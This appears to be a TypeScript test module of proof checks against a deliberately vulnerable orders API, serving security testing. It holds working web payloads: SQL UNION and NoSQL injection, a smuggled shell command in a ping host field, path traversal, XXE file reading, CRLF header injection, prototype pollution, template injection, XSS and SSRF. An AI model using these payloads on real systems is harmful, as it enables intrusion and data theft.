// By hand, one for each label: how the API is set up, and what gets out of a value into something else.
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Place, Proof, Reply } from "./place.ts";

const SETUP: Readonly<Record<string, Proof>> = {
  "error-with-stack": async (place) => {
    const { status, text } = await place.ask("GET /v2/orders?sort=nothing", { token: place.token("ann") });
    return status === 500 && /at .+\.ts:\d+/.test(text);
  },
  "cors-reflected": async (place) => {
    const origin = "https://evil.example.com";
    const { headers } = await place.ask("GET /v2/me", { token: place.token("ann"), headers: { origin } });
    const isOpen = headers["access-control-allow-origin"] === origin;
    return isOpen && headers["access-control-allow-credentials"] === "true";
  },
  "trace-echoed": async (place) => {
    const { status, text } = await place.ask("TRACE /", { headers: { "x-seen": "by whoever asks" } });
    return status === 200 && text.includes("by whoever asks");
  },
  "answer-cacheable": async (place) => {
    const { headers } = await place.ask("GET /v2/me", { token: place.token("ann") });
    return (headers["cache-control"] ?? "").includes("public");
  },
  "cookie-without-flags": async (place) => {
    const json = { user: "alice", password: "alice likes green tea" };
    const { status, headers } = await place.ask("POST /v2/sessions", { json });
    const [cookie = ""] = headers["set-cookie"] ?? [];
    return status === 200 && cookie !== "" && !/httponly/i.test(cookie) && !/secure/i.test(cookie);
  },
  "debug-exposed": async (place) => (await place.ask("GET /debug")).text.includes("DATABASE_URL"),
  "documentation-exposed": async (place) => (await place.ask("GET /openapi.json")).json["openapi"] === "3.1.0",
  "version-told": async (place) => {
    const { headers } = await place.ask("GET /v2/products");
    return /\d/.test(String(headers["x-powered-by"] ?? headers["server"] ?? ""));
  },
  "content-type-unchecked": async (place) => {
    const headers = { "content-type": "text/plain" };
    const json = { sku: "TEA-001", quantity: 1 };
    return (await place.ask("POST /v2/orders", { token: place.token("ann"), headers, json })).status === 201;
  },
  "hsts-missing": async (place) => {
    const { status, headers } = await place.ask("GET /v2/products");
    return place.url.startsWith("https:") && status === 200 && headers["strict-transport-security"] === undefined;
  },
};

const get = (place: Place, target: string) => place.ask(`GET ${target}`, { token: place.token("ann") });
const post = (place: Place, target: string, json: unknown) =>
  place.ask(`POST ${target}`, { token: place.token("ann"), json });
const countOf = ({ text }: Reply) => (JSON.parse(text) as unknown[]).length;

const INJECTIONS: Readonly<Record<string, Proof>> = {
  "avatar-fetched-from-anywhere": async (place) => {
    const seen: string[] = [];
    const listener = createServer((request, response) => {
      seen.push(request.url ?? "");
      response.end("a picture");
    });
    await new Promise<void>((resolve) => void listener.listen(0, "127.0.0.1", resolve));
    const url = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/proof`;
    await place.ask("PUT /v2/me/avatar", { token: place.token("ann"), json: { url } });
    listener.closeAllConnections();
    await new Promise((resolve) => void listener.close(resolve));
    return seen.includes("/proof");
  },
  "injection-sql": async (place) => {
    const named = (name: string) => place.ask(`GET /v2/products?name=${encodeURIComponent(name)}`);
    const [error, yes, no] = [
      await named("Green tea'"),
      await named("Green tea' AND '1'='1"),
      await named("Green tea' AND '1'='2"),
    ];
    const union = await named("' UNION SELECT sku, name, cost FROM products WHERE published = 0 --");
    const tellsError = error.text.includes("SQLITE_ERROR");
    return tellsError && countOf(yes) === 1 && countOf(no) === 0 && union.text.includes("SET-900");
  },
  "injection-nosql": async (place) => {
    const usual = await post(place, "/v2/reviews/search", { product: "TEA-001" });
    const more = await post(place, "/v2/reviews/search", { product: { $ne: "TEA-001" } });
    return countOf(usual) === 1 && more.status === 200 && more.text.includes("nobody is to know");
  },
  "injection-command": async (place) => {
    const { text } = await get(place, `/v2/diagnostics/ping?host=${encodeURIComponent("x; expr 6 '*' 7")}`);
    return text.includes("42");
  },
  "path-traversal": async (place) => {
    const { text } = await get(place, `/v2/files?name=${encodeURIComponent("../portcullis.yaml")}`);
    return text.includes("SHOP_CONTROL_URL");
  },
  "injection-header": async (place) => {
    const { headers } = await place.ask("GET /v2/go?to=%2Fproducts%0d%0aX-Injected:%20yes");
    return headers["x-injected"] === "yes";
  },
  "redirect-open": async (place) => {
    const { status, headers } = await place.ask("GET /v2/go?to=https%3A%2F%2Fevil.example.com%2F");
    return status === 302 && headers.location === "https://evil.example.com/";
  },
  "prototype-pollution": async (place) => {
    const headers = { "content-type": "application/json" };
    const text = '{"__proto__":{"polluted":"by ann"}}';
    await place.ask("PATCH /v2/me/preferences", { token: place.token("ann"), headers, text });
    const others = await place.ask("GET /v2/me/preferences", { token: place.token("ben") });
    return others.json["polluted"] === "by ann" && !("polluted" in {});
  },
  "xml-external-entity": async (place) => {
    const file = new URL("../../../examples/vulnerable-orders/files/terms.txt", import.meta.url).href;
    const text = `<!DOCTYPE o [<!ENTITY x SYSTEM "${file}">]><orders><note>&x;</note></orders>`;
    const headers = { "content-type": "application/xml" };
    const answer = await place.ask("POST /v2/orders/import", { token: place.token("ann"), headers, text });
    return answer.text.includes("once you paid");
  },
  "injection-template": async (place) => {
    const { json } = await post(place, "/v2/messages/preview", { text: "{{name}}: {{191*7}}" });
    return json["text"] === "ann: 1337";
  },
  "injection-html": async (place) => {
    const id = await place.order("ann");
    const title = "<script>alert(1)</script>";
    const { text, headers } = await get(place, `/v2/orders/${id}/label?title=${encodeURIComponent(title)}`);
    return text.includes(title) && (headers["content-type"] ?? "").startsWith("text/html");
  },
};

export const SURFACE_PROOFS = { ...SETUP, ...INJECTIONS };
